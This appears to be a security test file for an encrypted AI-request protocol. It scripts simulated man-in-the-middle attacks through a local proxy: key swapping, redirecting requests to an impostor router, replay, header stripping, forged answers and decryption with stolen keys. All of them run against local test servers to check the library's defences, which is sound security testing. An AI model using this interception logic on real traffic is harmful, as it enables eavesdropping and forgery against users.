/**
 * What attackers get of each protocol, over real sockets. The security guide's table is made of the outcomes
 * that are expected here.
 */
import * as Effect from "effect/Effect"
import * as Layer from "effect/Layer"
import type * as Scope from "effect/Scope"
import * as Fs from "node:fs"
import * as Os from "node:os"
import * as Path from "node:path"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { serve } from "../../src/cli/serve.js"
import { Crypto, type KeyPair } from "../../src/Crypto.js"
import * as Envelope from "../../src/Envelope.js"
import { NomyoClient } from "../../src/NomyoClient.js"
import * as Node from "../../src/platform/node/index.js"
import * as NodePrimitives from "../../src/platform/node/NodePrimitives.js"
import * as Hpke from "../../src/protocol2/Hpke.js"
import * as ObliviousHttp from "../../src/protocol2/ObliviousHttp.js"
import { Primitives } from "../../src/protocol2/Primitives.js"
import * as GatewayKeys from "../../src/router/GatewayKeys.js"
import type { Opened } from "../../src/router/Model.js"
import * as ReplayStore from "../../src/router/ReplayStore.js"
import * as Router from "../../src/router/Router.js"
import { activeProxy, type Forward, type Given, type Passing } from "../support/activeProxy.js"
import { ANSWER, attackers } from "../support/attackers.js"
import { readContent } from "../support/protocol2.js"
import * as Servers from "../support/servers.js"
import * as Vectors from "../support/vectors.js"

const PROMPT = "SENTINEL of the prompt"
const GATEWAY = ObliviousHttp.gatewayPath

const services = Layer.merge(Servers.platform, NodePrimitives.layer)
const run = <A, E>(effect: Effect.Effect<A, E, Layer.Layer.Success<typeof services> | Scope.Scope>) =>
  Effect.runPromise(Effect.provide(Effect.scoped(effect), services))

/** A router of both protocols that notes what it is asked, and its keys. */
const makeRouter = Effect.fnUntraced(function*(file: string) {
  const asked: Array<Opened> = []
  const model = (opened: Opened) =>
    Effect.sync(() => {
      asked.push(opened)
      return {
        choices: [{ index: 0, message: { role: "assistant", content: ANSWER }, finish_reason: "stop" }]
      }
    })
  const privateKeys: Array<GatewayKeys.StoredKey> = []
  const storage: GatewayKeys.KeyStorage = {
    ...GatewayKeys.inMemory,
    save: (key) => Effect.sync(() => void privateKeys.push({ ...key, privateKey: key.privateKey.slice() }))
  }
  const keyPair = yield* Node.loadKeyPair(Vectors.path(`keys/${file}`))
  const keys = yield* GatewayKeys.make({ keysAhead: 0, storage })
  const gateway = { keys, replayStore: yield* ReplayStore.makeMemory() }
  const url = yield* serve(yield* Router.make({ keyPair, model, gateway }), { host: "127.0.0.1", port: 0 })
  const [pin = ""] = yield* keys.fingerprints
  return { url, asked, keyPair, pin, privateKey: privateKeys[0]! }
})

const start = Effect.all({ router: makeRouter("server_4096.pem"), evil: makeRouter("client_4096.pem") })
type World = Effect.Effect.Success<typeof start>
let world: World
let close: () => Promise<void>
let clientPair: KeyPair
let keyDir: string
beforeAll(async () => {
  const started = await Servers.scoped(Effect.provide(start, services))
  world = started.value
  close = started.close
  clientPair = await run(Node.loadKeyPair(Vectors.path("keys/client_2048.pem")))
  keyDir = Fs.mkdtempSync(Path.join(Os.tmpdir(), "nomyo-"))
  Fs.copyFileSync(Vectors.path("keys/client_2048.pem"), Path.join(keyDir, "private_key.pem"))
  Fs.chmodSync(Path.join(keyDir, "private_key.pem"), 0o600)
})
afterAll(async () => {
  await close()
  Fs.rmSync(keyDir, { recursive: true })
})

/** The clients of the table's columns. */
const clients: { readonly [column: string]: () => Node.Options } = {
  "1.0": () => ({}),
  "1.0 pinned": () => ({ routerKeyFingerprints: [world.router.keyPair.publicKey.fingerprint] }),
  "2": () => ({ protocol: 2 }),
  "2 pinned": () => ({ routerKeyConfigFingerprints: [world.router.pin] })
}

/** What an attacker does with what passes, and what it has read by that. */
type Attack = (passing: Passing, forward: Forward, read: Array<string>) => Promise<Given>

/** What the envelope of an answer or of a request holds, for the owner of a key. */
const openEnvelope = (pair: KeyPair, bytes: Uint8Array): Promise<string> =>
  run(Effect.orElseSucceed(
    Envelope.open(pair.privateKey, Uint8Array.from(bytes), ({ plaintext }) =>
      Effect.succeed(Buffer.from(plaintext).toString())),
    () => ""
  ))

const sealFor = (pem: string, text: string) =>
  run(Effect.gen(function*() {
    const crypto = yield* Crypto
    const key = yield* crypto.importPublicKey(Buffer.from(decodeURIComponent(pem)))
    return yield* Envelope.seal(key, new TextEncoder().encode(text))
  }))

/** The request of protocol 2, for the owner of the router's private key. */
const openRequest = ({ keyId, privateKey }: GatewayKeys.StoredKey, message: Uint8Array) =>
  run(Effect.gen(function*() {
    const { importKeyPair } = yield* Primitives
    const keyPair = yield* importKeyPair(privateKey)
    const key = { keyId, kem: Hpke.x25519, aeadId: Hpke.AES_256_GCM, keyPair }
    const bytes = Uint8Array.from(message)
    const length = ObliviousHttp.headerLength(Hpke.x25519)
    const exchange = yield* ObliviousHttp.gateway(key, bytes.slice(0, length))
    return yield* readContent(exchange.request, "request", bytes.slice(length))
  }))

const isPost = ({ method }: Passing) => method === "POST"
const isSealed2 = ({ url }: Passing) => url === GATEWAY
const withHeaders = (passing: Passing, headers: Record<string, string>): Passing => ({
  ...passing,
  headers: { ...passing.headers, ...headers }
})
const evilPem = () => encodeURIComponent(world.evil.keyPair.publicKey.pem)
const completion = JSON.stringify({
  choices: [{ index: 0, message: { role: "assistant", content: "forged" }, finish_reason: "stop" }]
})

const attacks: { readonly [row: string]: Attack } = {
  "only records": async (passing, forward, read) => {
    const given = await forward(passing)
    read.push(passing.body.toString("latin1"), Buffer.from(given.body).toString("latin1"))
    return given
  },
  "swaps the client's key": async (passing, forward, read) => {
    const given = await forward(withHeaders(passing, { "x-public-key": evilPem() }))
    if (!isPost(passing) || isSealed2(passing)) return given
    const text = await openEnvelope(world.evil.keyPair, given.body)
    read.push(text)
    return { ...given, body: await sealFor(passing.headers["x-public-key"]!, text) }
  },
  "swaps the router's key": async (passing, _, read) => {
    const { body, headers, method, url } = passing
    const init = isPost(passing) ? { method, headers: headersOf(headers), body: Uint8Array.from(body) } : {}
    const response = await fetch(`${world.evil.url}${url}`, init)
    read.push(JSON.stringify(world.evil.asked.splice(0)))
    const type = response.headers.get("content-type") ?? ""
    return { status: response.status, headers: { "content-type": type },
      body: new Uint8Array(await response.arrayBuffer()) }
  },
  "repeats the request": async (passing, forward, read) => {
    const given = await forward(passing)
    if (!isPost(passing)) return given
    const repeated = await forward(withHeaders(passing, { "x-public-key": evilPem() }))
    read.push(isSealed2(passing) ? "" : await openEnvelope(world.evil.keyPair, repeated.body))
    return given
  },
  "takes the tier away": (passing, forward) => {
    const { "x-security-tier": _, ...headers } = passing.headers
    return forward({ ...passing, headers })
  },
  "forges an answer": async (passing, forward) => {
    if (!isPost(passing)) return forward(passing)
    if (!isSealed2(passing))
      return { status: 200, body: await sealFor(passing.headers["x-public-key"]!, completion) }
    const headers = { "content-type": ObliviousHttp.responseType }
    return { status: 200, headers, body: Buffer.from(completion.repeat(3)) }
  },
  "forges an error": async (passing, forward) =>
    isPost(passing) ? { status: 401, body: Buffer.from("{\"detail\":\"no\"}") } : forward(passing),
  "cuts the answer short": async (passing, forward) => {
    const given = await forward(passing)
    return isPost(passing) ? { ...given, body: given.body.subarray(0, given.body.length - 1) } : given
  },
  "hides protocol 2": async (passing, forward) =>
    isSealed2(passing) ? { status: 404, body: new Uint8Array(0) } : forward(passing),
  "steals the client's key later": async (passing, forward, read) => {
    const given = await forward(passing)
    if (isPost(passing)) read.push(await openEnvelope(clientPair, given.body))
    return given
  },
  "steals the router's key later": async (passing, forward, read) => {
    const given = await forward(passing)
    if (!isPost(passing)) return given
    read.push(await (isSealed2(passing)
      ? openRequest(world.router.privateKey, passing.body)
      : openEnvelope(world.router.keyPair, passing.body)))
    return given
  }
}

const headersOf = ({ connection: _, "content-length": __, host: ___, ...headers }: Record<string, string>) =>
  headers

/** One request through an attacker: what both have of it, and what the router was asked. */
const attacked = (attack: Attack, options: Node.Options) =>
  run(Effect.gen(function*() {
    const read: Array<string> = []
    world.router.asked.length = 0
    const url = yield* activeProxy(world.router.url, (passing, forward) => attack(passing, forward, read))
    const request = { model: "m", messages: [{ role: "user", content: PROMPT }],
      security_tier: "high" } as const
    const client = Node.layer({ baseUrl: url, allowHttp: true, maxRetries: 0, keyDir, ...options })
    const got = yield* Effect.flatMap(NomyoClient, ({ create }) => create(request)).pipe(
      Effect.provide(client),
      Effect.match({
        onFailure: (error) => ("reason" in error ? `${error._tag} ${error.reason}` : error._tag) +
          ("authenticated" in error && error.authenticated === false ? ", not authenticated" : ""),
        onSuccess: ({ choices }) => choices[0]?.message.content
      })
    )
    const all = read.join("\n")
    return {
      reads: [all.includes(PROMPT) ? "prompt" : [], all.includes(ANSWER) ? "answer" : []].flat(),
      got,
      tiers: world.router.asked.map(({ securityTier }) => securityTier ?? "none")
    }
  }))

describe.each(Object.entries(attackers))("an attacker that %s", (row, cells) => {
  it.each(Object.entries(cells))("of protocol %s", async (column, { outcome }) => {
    expect(await attacked(attacks[row]!, clients[column]!())).toEqual(outcome)
  })
})

describe("an attacker that compares the sealed requests of one prompt", () => {
  it("finds them as different as any two, and as long, under protocol 2", async () => {
    const seen: Array<Buffer> = []
    const note: Attack = (passing, forward) => {
      if (isPost(passing)) seen.push(passing.body)
      return forward(passing)
    }
    const options = clients["2"]!()
    await attacked(note, options)
    await attacked(note, options)
    const [first, second] = seen as [Buffer, Buffer]
    // the header names the router's key; what follows is new for each request
    const isSame = (from: number, to: number) => first.subarray(from, to).equals(second.subarray(from, to))
    const blocks = Array.from({ length: Math.floor((first.length - 7) / 32) }, (_, i) => 7 + 32 * i)
    expect({
      lengths: first.length - second.length,
      header: isSame(0, 7),
      sameBlocks: blocks.filter((at) => isSame(at, at + 32))
    }).toEqual({ lengths: 0, header: true, sameBlocks: [] })
  })
})
